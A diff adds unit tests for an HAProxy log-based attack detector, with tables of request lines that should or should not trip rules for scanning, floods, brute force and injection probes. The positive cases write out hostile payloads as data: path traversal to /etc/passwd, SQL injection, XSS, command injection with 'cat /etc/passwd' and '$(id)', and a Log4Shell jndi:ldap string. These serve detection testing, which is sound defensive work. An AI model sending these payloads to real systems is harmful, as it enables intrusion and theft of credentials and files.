@@ -1,0 +1,157 @@
+/**
+ * Unit tables, one block per rule family: lines that must make a rule fire and lines that
+ * must not, including percent-encoded (single and double), HAProxy-escaped (#XX) and
+ * backslash payloads. Each case names the rule and the expected decision.
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { http, judgeOne, T0, tcp, times } from './log-lines.js';
+
+interface Case {
+  readonly name: string;
+  readonly rule: string;
+  readonly lines: readonly string[];
+  readonly fires: boolean;
+}
+
+const get = (uri: string, o: Parameters<typeof http>[0] = {}): string => http({ uri, status: 404, ...o });
+const each = (uris: readonly string[], o: Parameters<typeof http>[0] = {}): string[] => uris.map((u, i) => get(u, { ms: T0 + i * 1000, ...o }));
+
+const CASES: readonly Case[] = [
+  // scan.paths
+  { name: '25 distinct 404 paths', rule: 'scan.paths', fires: true, lines: times(25, (i) => get(`/w${i}`, { ms: T0 + i * 100 })) },
+  { name: '25 404s on one path', rule: 'scan.paths', fires: false, lines: times(25, (i) => get('/missing', { ms: T0 + i * 100 })) },
+  { name: '25 distinct missing static assets', rule: 'scan.paths', fires: false, lines: times(25, (i) => get(`/static/img/p${i}.png`, { ms: T0 + i * 100 })) },
+  {
+    name: '20 distinct 404s among 200 pages (10%)',
+    rule: 'scan.paths',
+    fires: false,
+    lines: [...times(20, (i) => get(`/gone${i}`, { ms: T0 + i * 1000 })), ...times(180, (i) => http({ uri: `/p${i % 30}.html`, ms: T0 + i * 1000 }))],
+  },
+  { name: '20 distinct HAProxy denies (403 PR)', rule: 'scan.paths', fires: true, lines: times(20, (i) => http({ uri: `/admin/${i}`, status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', ms: T0 + i * 10 })) },
+  // crawl.aggressive
+  { name: '50 new pages in 5 s', rule: 'crawl.aggressive', fires: true, lines: times(50, (i) => http({ uri: `/products/item-${i}.html`, ms: T0 + i * 100 })) },
+  { name: '50 new pages at one per 2 s', rule: 'crawl.aggressive', fires: false, lines: times(50, (i) => http({ uri: `/products/item-${i}.html`, ms: T0 + i * 2000 })) },
+  {
+    name: '50 new pages in 5 s, each with its stylesheet and script (a browser, or a NAT)',
+    rule: 'crawl.aggressive',
+    fires: false,
+    lines: times(50, (i) => [http({ uri: `/products/item-${i}.html`, ms: T0 + i * 100 }), http({ uri: '/static/css/main.css', ms: T0 + i * 100 + 1 }), http({ uri: '/static/js/app.js', ms: T0 + i * 100 + 2 })]).flat(),
+  },
+  { name: '200 static assets in 5 s', rule: 'crawl.aggressive', fires: false, lines: times(200, (i) => http({ uri: `/static/img/p${i}.jpg`, ms: T0 + i * 25 })) },
+  // probe.sensitive-files
+  { name: '/.env and /.git/config', rule: 'probe.sensitive-files', fires: true, lines: each(['/.env', '/.git/config']) },
+  { name: 'percent-encoded /%2eenv and /.git%2fconfig', rule: 'probe.sensitive-files', fires: true, lines: each(['/%2e%65nv', '/.git%2fconfig']) },
+  { name: 'double-encoded /%252eenv and /%252eaws/credentials', rule: 'probe.sensitive-files', fires: true, lines: each(['/%252eenv', '/%252Eaws/credentials']) },
+  { name: 'look-alikes /.environment.html, /.github-pages', rule: 'probe.sensitive-files', fires: false, lines: each(['/.environment.html', '/.github-pages/', '/blog/git-tips.html']) },
+  { name: 'one sensitive file, many times', rule: 'probe.sensitive-files', fires: false, lines: times(10, (i) => get('/.env', { ms: T0 + i * 1000 })) },
+  // probe.path-traversal
+  { name: '../ and encoded ..%2f', rule: 'probe.path-traversal', fires: true, lines: each(['/download/../../etc/passwd', '/img/..%2f..%2f..%2fetc/hosts']) },
+  { name: 'double-encoded %252e%252e%252f and backslashes', rule: 'probe.path-traversal', fires: true, lines: each(['/dl/%252e%252e%252f%252e%252e%252fwin.ini', '/download/..\\..\\..\\boot.ini']) },
+  { name: 'traversal in the query string', rule: 'probe.path-traversal', fires: true, lines: each(['/download?file=../../../../etc/passwd', '/view?page=%2e%2e%2f%2e%2e%2fetc%2fshadow']) },
+  { name: 'dots that are not traversal', rule: 'probe.path-traversal', fires: false, lines: each(['/docs/v1..v2.html', '/files/report...final.pdf', '/a.b.c/d']) },
+  // probe.sqli
+  { name: 'UNION SELECT and quote-or', rule: 'probe.sqli', fires: true, lines: each(['/api/items?id=1%20UNION%20ALL%20SELECT%20NULL,NULL', "/login?user=admin'+or+'1'='1"]) },
+  { name: 'sqlmap time-based payloads', rule: 'probe.sqli', fires: true, lines: each(['/blog/?p=3%29%3BSELECT%20PG_SLEEP%285%29--', '/api/items?id=1%20WAITFOR%20DELAY%20%270%3A0%3A5%27--']) },
+  { name: 'double-encoded union select', rule: 'probe.sqli', fires: true, lines: each(['/x?id=1%2520union%2520select%25201', '/x?id=1%2527%2520or%25201%253D1']) },
+  { name: 'searches with SQL words', rule: 'probe.sqli', fires: false, lines: each(['/search?q=select+a+dress', '/search?q=union+station+hotel', '/search?q=order+by+price', "/search?q=o'brien"]) },
+  // probe.xss
+  { name: 'script tag and onerror, encoded', rule: 'probe.xss', fires: true, lines: each(['/search?q=%3Cscript%3Ealert(1)%3C/script%3E', '/search?q=#22%3E%3Cimg+src=x+onerror=alert(1)%3E']) },
+  { name: 'the same XSS URL reloaded', rule: 'probe.xss', fires: false, lines: times(8, (i) => get('/search?q=%3Cscript%3Ealert(1)%3C/script%3E', { ms: T0 + i * 1000 })) },
+  { name: 'ordinary searches', rule: 'probe.xss', fires: false, lines: each(['/search?q=script+writing', '/search?q=image+gallery', '/search?q=body+lotion']) },
+  // probe.cmd-injection
+  { name: ';cat /etc/passwd and $(id)', rule: 'probe.cmd-injection', fires: true, lines: each(['/ping?host=1.1.1.1%3Bcat%20/etc/passwd', '/x?a=%24%28id%29']) },
+  { name: 'log4shell in the query', rule: 'probe.cmd-injection', fires: true, lines: each(['/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D', '/?y=$%7Bjndi:dns://e.example/b%7D']) },
+  { name: 'words that look like commands', rule: 'probe.cmd-injection', fires: false, lines: each(['/search?q=cat+food', '/search?q=identity+theft', '/products?sort=id']) },
+  // probe.backdoor
+  { name: 'webshell names', rule: 'probe.backdoor', fires: true, lines: each(['/shell.php']) },
+  { name: 'shellfish is not a shell', rule: 'probe.backdoor', fires: false, lines: each(['/shellfish.html', '/blog/webinar.html']) },
+  // probe.admin
+  { name: 'admin interfaces', rule: 'probe.admin', fires: true, lines: each(['/phpmyadmin/', '/wp-admin/setup-config.php']) },
+  { name: 'admin words elsewhere in the path', rule: 'probe.admin', fires: false, lines: each(['/blog/admin-tips.html', '/help/phpmyadmin-guide.html'.replace('phpmyadmin', 'php-my-ad')]) },
+  // probe.cve
+  { name: 'phpunit eval-stdin (CVE-2017-9841)', rule: 'probe.cve', fires: true, lines: each(['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php']) },
+  { name: 'Boa formLogin, encoded', rule: 'probe.cve', fires: true, lines: each(['/boaform/admin/form%4Cogin']) },
+  { name: 'ordinary pages', rule: 'probe.cve', fires: false, lines: each(['/products/', '/about.html', '/api/items?id=3']) },
+  // bruteforce.auth
+  { name: '25 x 401 in 30 s', rule: 'bruteforce.auth', fires: true, lines: times(25, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 1200 })) },
+  { name: '25 x 401 at one a minute', rule: 'bruteforce.auth', fires: false, lines: times(25, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 61000 })) },
+  { name: '25 x 403 denied by HAProxy (policy, not auth)', rule: 'bruteforce.auth', fires: false, lines: times(25, (i) => http({ uri: '/admin', status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', timers: '0/-1/-1/-1/0', ms: T0 + i * 100 })) },
+  { name: '25 x 403 from the application', rule: 'bruteforce.auth', fires: true, lines: times(25, (i) => http({ uri: '/wp-login.php', status: 403, ms: T0 + i * 100 })) },
+  // flood.requests
+  { name: '600 requests on 600 new connections in 6 s', rule: 'flood.requests', fires: true, lines: times(600, (i) => http({ port: 20000 + i, ms: T0 + i * 10 })) },
+  { name: '1500 keep-alive requests on 3 connections in 5 s', rule: 'flood.requests', fires: false, lines: times(1500, (i) => http({ uri: '/api/list?page=1', port: 30000 + (i % 3), ms: T0 + Math.floor(i * 3.3) })) },
+  { name: '5000 keep-alive requests in 10 s', rule: 'flood.requests', fires: true, lines: times(5000, (i) => http({ port: 30000 + (i % 3), ms: T0 + i * 2 })) },
+  { name: 'a monitor: a new connection every 3 s for 10 min', rule: 'flood.requests', fires: false, lines: times(200, (i) => http({ uri: '/health', port: 20000 + i, ms: T0 + i * 3000 })) },
+  // slow.client
+  { name: '12 request timeouts (408 cR)', rule: 'slow.client', fires: true, lines: times(12, (i) => http({ request: '<BADREQ>', status: 408, term: 'cR--', timers: '-1/-1/-1/-1/2000', port: 20000 + i, ms: T0 + i * 100 })) },
+  { name: '12 partial requests abandoned after 1 s (CR)', rule: 'slow.client', fires: true, lines: times(12, (i) => http({ request: '<BADREQ>', term: 'CR--', timers: '-1/-1/-1/-1/1000', port: 20000 + i, ms: T0 + i * 100 })) },
+  {
+    name: '2 timeouts among 50 requests',
+    rule: 'slow.client',
+    fires: false,
+    lines: [...times(2, (i) => http({ request: '<BADREQ>', status: 408, term: 'cR--', timers: '-1/-1/-1/-1/2000', ms: T0 + i })), ...times(48, (i) => http({ ms: T0 + i * 1000 }))],
+  },
+  { name: 'client-side aborts during the response (CD, cD)', rule: 'slow.client', fires: false, lines: times(12, (i) => http({ term: i % 2 ? 'CD--' : 'cD--', ms: T0 + i * 1000 })) },
+  // proto.bad-requests
+  { name: '15 connections closed without a request', rule: 'proto.bad-requests', fires: true, lines: times(15, (i) => http({ request: '<BADREQ>', port: 20000 + i, ms: T0 + i * 100 })) },
+  { name: '15 empty TCP sessions closed by the client', rule: 'proto.bad-requests', fires: true, lines: times(15, (i) => tcp({ term: i % 2 ? 'CD' : 'CR', port: 20000 + i, ms: T0 + i * 100 })) },
+  { name: '15 TCP sessions refused by a dead server (SC)', rule: 'proto.bad-requests', fires: false, lines: times(15, (i) => tcp({ term: 'SC', timers: '1/-1/2002', port: 20000 + i, ms: T0 + i * 100 })) },
+  { name: '12 invalid HTTP versions', rule: 'proto.bad-requests', fires: true, lines: times(12, (i) => http({ request: `GET /x${i} HTTP/1.7`, ms: T0 + i * 100 })) },
+  // proto.open-proxy
+  { name: 'absolute-form HTTP/1.1 request', rule: 'proto.open-proxy', fires: true, lines: [http({ request: 'GET http://www.example.org/ HTTP/1.1' })] },
+  { name: 'CONNECT', rule: 'proto.open-proxy', fires: true, lines: [http({ request: 'CONNECT mail.example.org:25 HTTP/1.1', status: 400 })] },
+  { name: 'HTTP/2 requests are logged in absolute form', rule: 'proto.open-proxy', fires: false, lines: [http({ request: 'GET https://www.shop.test/ HTTP/2.0' })] },
+  // ua.scanner
+  { name: 'Nikto user agent', rule: 'ua.scanner', fires: true, lines: [http({ ua: 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)' })] },
+  { name: 'sqlmap escaped by HAProxy (#23)', rule: 'ua.scanner', fires: true, lines: [http({ ua: 'sqlmap/1.7.2#23stable (https://sqlmap.org)' })] },
+  { name: 'curl, ApacheBench, python-requests', rule: 'ua.scanner', fires: false, lines: [http({ ua: 'curl/8.4.0' }), http({ ua: 'ApacheBench/2.3' }), http({ ua: 'python-requests/2.31.0' })] },
+  // proxy.denied
+  { name: '6 denies among 10 requests', rule: 'proxy.denied', fires: true, lines: [...times(6, (i) => http({ uri: `/x${i}`, status: 403, term: 'PR--', server: 'fe_web/<NOSRV>', ms: T0 + i })), ...times(4, (i) => http({ ms: T0 + i }))] },
+  { name: '6 tarpits', rule: 'proxy.denied', fires: true, lines: times(6, (i) => http({ uri: `/x${i}.php`, status: 500, term: 'PT--', server: 'fe_web/<NOSRV>', timers: '-1/1000/-1/-1/1000', ms: T0 + i })) },
+  { name: '1 deny among 100 requests', rule: 'proxy.denied', fires: false, lines: [http({ status: 403, term: 'PR--', server: 'fe_web/<NOSRV>' }), ...times(99, (i) => http({ ms: T0 + i * 1000 }))] },
+];
+
+for (const c of CASES) {
+  test(`${c.rule}: ${c.fires ? 'fires on' : 'does not fire on'} ${c.name}`, () => {
+    const j = judgeOne(c.lines);
+    const d = j.byId.get(c.rule);
+    assert.ok(d, `rule ${c.rule} was not evaluated`);
+    assert.equal(d.fired, c.fires, `${c.rule}: ${d.why}`);
+  });
+}
+
+test('every rule id has a positive and a negative case in the tables', async () => {
+  const { RULE_IDS } = await import('../../halog/detect/rules.js');
+  for (const id of RULE_IDS) {
+    assert.ok(CASES.some((c) => c.rule === id && c.fires), `${id}: no positive case`);
+    assert.ok(CASES.some((c) => c.rule === id && !c.fires), `${id}: no negative case`);
+  }
+});
+
+test('verdicts: a tool user agent alone does not flag; with a probe it is malicious', () => {
+  const alone = judgeOne([http({ ua: 'sqlmap/1.7.2' })]);
+  assert.equal(alone.verdict, 'clean');
+  const withProbe = judgeOne(each(['/x?id=1%20union%20select%201', "/x?id=1'%20or%20'1'='1"], { ua: 'sqlmap/1.7.2' }));
+  assert.deepEqual(withProbe.decisions.filter((x) => x.fired).map((x) => x.id).sort(), ['probe.sqli', 'ua.scanner']);
+  assert.equal(withProbe.score, 10);
+  assert.equal(withProbe.verdict, 'malicious');
+});
+
+test('verdicts: one stray 404 or one odd URL never flags', () => {
+  for (const lines of [[get('/wp-login.php')], [get('/.env')], [get('/a/../../etc/passwd')], [get('/search?q=%3Cscript%3E')]]) {
+    assert.equal(judgeOne(lines).verdict, 'clean', lines[0]);
+  }
+});
+
+test('evidence: at most 3 log lines per rule, the first ones, verbatim', async () => {
+  const { suspects } = await import('../../halog/detect/verdict.js');
+  const { detect } = await import('./log-lines.js');
+  const lines = times(30, (i) => http({ uri: '/login', status: 401, ms: T0 + i * 100 }));
+  const [s] = suspects(detect(lines));
+  assert.ok(s);
+  const r = s.rules.find((x) => x.id === 'bruteforce.auth');
+  assert.ok(r);
+  assert.equal(r.count, 30);
+  assert.deepEqual(r.evidence, lines.slice(0, 3));
+});
